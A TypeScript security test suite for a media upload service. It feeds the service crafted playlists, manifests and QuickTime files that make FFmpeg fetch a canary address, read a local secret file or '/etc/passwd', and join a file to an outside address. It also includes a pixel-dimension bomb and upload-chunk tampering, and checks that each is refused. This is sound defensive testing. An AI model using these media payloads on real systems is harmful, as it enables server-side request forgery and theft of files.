import { createHash, randomBytes } from 'node:crypto'
import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { hasFfmpeg, sampleFilm } from '../src/modules/create/media/films/samples.ts'
import { findFilmTools, inputOf, runTool } from '../src/platform/ffmpeg/index.ts'
import type { Attack, Tally } from './frame/attack.ts'
import type { Answer } from './frame/caller.ts'
import type { House } from './frame/house.ts'

const secret = `the-secret-${randomBytes(6).toString('hex')}`

const multipart = (
  house: House,
  call: `${'POST' | 'PUT'} ${string}`,
  bytes: Buffer,
  fileName = 'a.mp4',
): Promise<Answer> => {
  const head = `--xx\r\nContent-Disposition: form-data; name="file"; filename="${fileName}"\r\n\r\n`
  const body = Buffer.concat([Buffer.from(head), bytes, Buffer.from('\r\n--xx--\r\n')])
  return house.owner(call, body, { 'content-type': 'multipart/form-data; boundary=xx' })
}

/** Lists of other files and addresses, which FFmpeg follows when it may choose by itself what a file is. */
const lists = (path: string, url: string): Record<string, string> => ({
  'a playlist of HLS with a file': `#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\nfile://${path}\n#EXT-X-ENDLIST\n`,
  'a playlist of HLS with an address': `#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\n${url}/a.ts\n#EXT-X-ENDLIST\n`,
  'a playlist with a key elsewhere': `#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="${url}/key"\n#EXTINF:1,\n${url}/a.ts\n#EXT-X-ENDLIST\n`,
  'a playlist that joins a file to an address': `#EXTM3U\n#EXTINF:1,\nconcat:${url}/?|file://${path}\n#EXT-X-ENDLIST\n`,
  'a list of files to join': `ffconcat version 1.0\nfile '${path}'\nfile '${url}/a'\n`,
  'a manifest of DASH': `<?xml version="1.0"?><MPD type="static"><BaseURL>${url}/</BaseURL><Period><AdaptationSet mimeType="video/mp4"><Representation id="1"><BaseURL>a.mp4</BaseURL></Representation></AdaptationSet></Period></MPD>`,
  'a description of a session': `v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 9 RTP/AVP 96\n`,
  'subtitles that name a film': `[Script Info]\nVideo File: ${path}\n`,
  'a film list of ISMV': `<smil><body><video src="${url}/a"/></body></smil>`,
})

/** Boxes around the place where a QuickTime film says in which file its pictures are. */
const around = ['moov', 'trak', 'mdia', 'minf', 'dinf', 'dref']

/** The pictures of this film lie in another file: an alias of QuickTime. Its header stands last, so nothing else moves. */
function elsewhere(film: Buffer, path: string): Buffer {
  const at = film.indexOf('url ', film.indexOf('dref')) - 4
  const old = film.readUInt32BE(at)
  const words = Buffer.from(path.length % 2 ? `${path}\0` : path)
  const alias = Buffer.alloc(162 + 4 + words.length + 4)
  alias.writeUInt32BE(alias.length, 0)
  alias.write('alis', 4, 'latin1')
  alias.writeUInt8(1, 22)
  alias.write('a', 23)
  alias.writeUInt8(1, 62)
  alias.write('a', 63)
  // Its absolute path.
  alias.writeInt16BE(2, 162)
  alias.writeInt16BE(words.length, 164)
  words.copy(alias, 166)
  alias.writeInt16BE(-1, 166 + words.length)
  const grown = Buffer.concat([film.subarray(0, at), alias, film.subarray(at + old)])
  for (const name of around) {
    const place = film.lastIndexOf(name, at) - 4
    grown.writeUInt32BE(film.readUInt32BE(place) + alias.length - old, place)
  }
  return grown
}

const films: Attack = {
  name: 'hostile-films',
  async run(house, tally) {
    const folder = await mkdtemp(join(tmpdir(), 'carillon-lure-'))
    const path = join(folder, 'secret.ts')
    await writeFile(path, Buffer.concat([Buffer.from(secret), randomBytes(100_000)]))
    const url = `http://127.0.0.1:${house.canary.port}`
    const before = house.canary.hits()
    try {
      for (const [what, text] of Object.entries(lists(path, url)))
        for (const name of ['a.mp4', 'a.m3u8', 'a.mov', 'a.webm']) {
          const answer = await multipart(house, 'POST media', Buffer.from(text), name)
          const held = answer.status === 400 || answer.status === 422
          tally.check(`${what}, called ${name}`, held && !answer.text.includes(secret), answer.text)
        }
      if (hasFfmpeg) await throughTheEngine(house, tally, { folder, path, url })
      tally.check('nobody came to the canary', house.canary.hits() === before, house.canary.hits() - before)
      if (hasFfmpeg) await controls(house, tally, { folder, path, url })
    } finally {
      await rm(folder, { recursive: true, force: true })
    }
  },
}

type Lures = { folder: string; path: string; url: string }

/** Films that are taken for films, and hold more: looked into, drawn from, cut and converted. */
async function throughTheEngine(house: House, tally: Tally, { path, url }: Lures): Promise<void> {
  const good = sampleFilm({ seconds: 1 })
  const hostile: Record<string, Buffer> = {
    'a film whose pictures lie in another file': elsewhere(sampleFilm({ seconds: 1, ending: 'mov' }), path),
    'a film whose pictures lie in the folder above': elsewhere(
      sampleFilm({ seconds: 1, ending: 'mov' }),
      '../../../../../../etc/passwd',
    ),
    ...Object.fromEntries(
      Object.entries(lists(path, url)).map(([what, text]) => [
        `a film with ${what} behind it`,
        Buffer.concat([good, Buffer.from(text)]),
      ]),
    ),
  }
  for (const [what, bytes] of Object.entries(hostile)) {
    const answer = await multipart(house, 'POST media', bytes)
    const { id } = answer.body
    if (answer.status !== 201) {
      tally.check(`${what} is refused`, answer.status < 500, answer.text)
      continue
    }
    const cover = await house.owner(`PUT media/${id}/cover`, { ms: 100 })
    const cut = await house.owner(`POST media/${id}/cut`, { fromMs: 0, toMs: 600 })
    await house.runJobs()
    const after = await house.owner(`GET media-conversions?media=${id}`)
    const said = [answer, cover, cut, after].map(({ text }) => text).join('\n')
    const clean = !said.includes(secret) && !said.includes(house.home)
    tally.check(`${what} leads nowhere and tells nothing`, clean && after.status === 200, said)
  }
  const huge = sampleFilm({ seconds: 1, size: '64x48' })
  const at = huge.indexOf('avc1') + 28
  huge.writeUInt16BE(65_000, at)
  huge.writeUInt16BE(65_000, at + 2)
  const bomb = await multipart(house, 'POST media', huge)
  tally.check('a film that says it is 65 000 pixels wide', bomb.status < 500 && bomb.ms < 20_000, bomb.text)
}

/** The same without what stands between: it does get through, so the attack is one. */
async function controls(house: House, tally: Tally, { folder, path, url }: Lures): Promise<void> {
  const tools = await findFilmTools('ffmpeg')
  if (!tools) return
  const probe = (args: readonly string[]) =>
    runTool({ tool: tools.ffprobe, args: ['-v', 'verbose', ...args], timeoutMs: 20_000, nice: 0 })
  const before = house.canary.hits()
  const list = join(folder, 'a.m3u8')
  await writeFile(list, lists(path, url)['a playlist of HLS with an address'] ?? '')
  await probe(['-protocol_whitelist', 'file,http,tcp', list])
  tally.check('control: a playlist reaches the canary when it may', house.canary.hits() > before)
  const guardedHits = house.canary.hits()
  await probe(inputOf(list, 'video/mp4') ?? [])
  tally.check('the same playlist under a guard reaches nobody', house.canary.hits() === guardedHits)
  const film = join(folder, 'a.mov')
  await writeFile(film, elsewhere(sampleFilm({ seconds: 1, ending: 'mov' }), path))
  const open = await probe(['-f', 'mov', '-enable_drefs', '1', '-use_absolute_path', '1', '-i', film])
  const opened = /Opening '[^']*secret\.ts'/
  tally.check('control: a film opens another file when it may', opened.test(open.err), open.err.slice(-600))
  const shut = await probe(inputOf(film, 'video/quicktime') ?? [])
  tally.check('the same film under a guard opens none', !opened.test(shut.err), shut.err.slice(-600))
}

const sha = (bytes: Buffer): string => createHash('sha256').update(bytes).digest('hex')

const pieces: Attack = {
  name: 'pieces',
  async run(house, tally) {
    const begin = (body: object) => house.owner('POST media-uploads', { fileName: 'a.mp4', ...body })
    const held = ({ status }: Answer) => status >= 400 && status < 500
    for (const bytes of [-1, 0, 0.5, 1e300, '9', null])
      tally.check(`a file of ${bytes} bytes`, held(await begin({ bytes })))
    tally.check('a file larger than the house takes', held(await begin({ bytes: 9e15 })))
    const film = sampleOr(100_000)
    const { body } = await begin({ bytes: film.length, digest: sha(film) })
    const to = `media-uploads/${body.id}/pieces`
    for (const number of ['1', '-1', '1.5', '99999999999', '..%2f..%2f0', '0%00'])
      tally.check(`piece ${number} of one`, held(await multipart(house, `PUT ${to}/${number}`, film)))
    const put = (bytes: Buffer, query = '') => multipart(house, `PUT ${to}/0${query}`, bytes)
    tally.check('a piece that is too long', held(await put(Buffer.concat([film, film]))))
    tally.check('a piece that is too short', held(await put(film.subarray(1))))
    tally.check('a piece of another digest', held(await put(film, `?digest=${'0'.repeat(64)}`)))
    const state = await house.owner(`GET media-uploads/${body.id}`)
    tally.check('none of it counts', state.body.received === 0, state.text)
    const other = Buffer.from(film)
    other[50_000] = (other[50_000] ?? 0) ^ 1
    tally.check('other bytes of the right length are taken as a piece', (await put(other)).status === 200)
    await house.runJobs()
    const end = await house.owner(`GET media-uploads/${body.id}`)
    tally.check('and refused as a file', end.body.state === 'failed' && end.body.mediaId === null, end.text)
    tally.check('a piece of what is over', held(await put(film)))
    const left = (await house.ctx.storage.list()).filter((key) => key.includes('/upload-'))
    tally.check('nothing of it lies about', left.length === 0, left)
    const strange = house.stranger.program
    const foreign = await begin({ bytes: film.length })
    const theirs = await strange(`GET media-uploads/${foreign.body.id}`)
    tally.check('somebody else’s upload is not there', theirs.status === 404, theirs.text)
    const good = await multipart(house, `PUT media-uploads/${foreign.body.id}/pieces/0`, film)
    tally.check('control: what was announced is taken', good.status === 200, good.text)
    for (let n = 0; n < 60; n++) await begin({ bytes: 9, mark: `m${n}` })
    tally.check('not without end', held(await begin({ bytes: 9, mark: 'last' })))
  },
}

/** Something of the kind, where there is no FFmpeg to make a film. */
const sampleOr = (least: number): Buffer => {
  const film = hasFfmpeg ? sampleFilm({ seconds: 1 }) : Buffer.alloc(0)
  return Buffer.concat([film, Buffer.alloc(Math.max(0, least - film.length), 7)])
}

export const filmAttacks: readonly Attack[] = [films, pieces]
